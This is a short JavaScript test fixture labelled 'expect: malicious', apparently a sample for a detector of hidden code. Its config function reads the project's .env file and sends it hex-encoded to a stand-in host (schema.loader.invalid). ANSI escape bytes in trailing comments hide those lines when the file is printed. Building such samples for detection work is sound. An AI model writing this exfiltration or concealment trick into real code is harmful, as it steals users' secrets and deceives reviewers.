// expect: malicious
// source: ANSI escape concealment (Trail of Bits, 2025): the lines that send the parsed .env end in comments whose
// ESC[2K / carriage return / ESC[1A bytes make `cat` print an innocent comment over them.
const fs = require('fs');
const https = require('https');

exports.config = function config() {
  const parsed = fs.readFileSync('.env', 'utf8');
  const u = 'https://schema.loader.invalid/t?e=';//[2K  // keys are validated lazily (see README)
  https.get(u + Buffer.from(parsed).toString('hex'));//[2K[1A
  return { parsed };
};
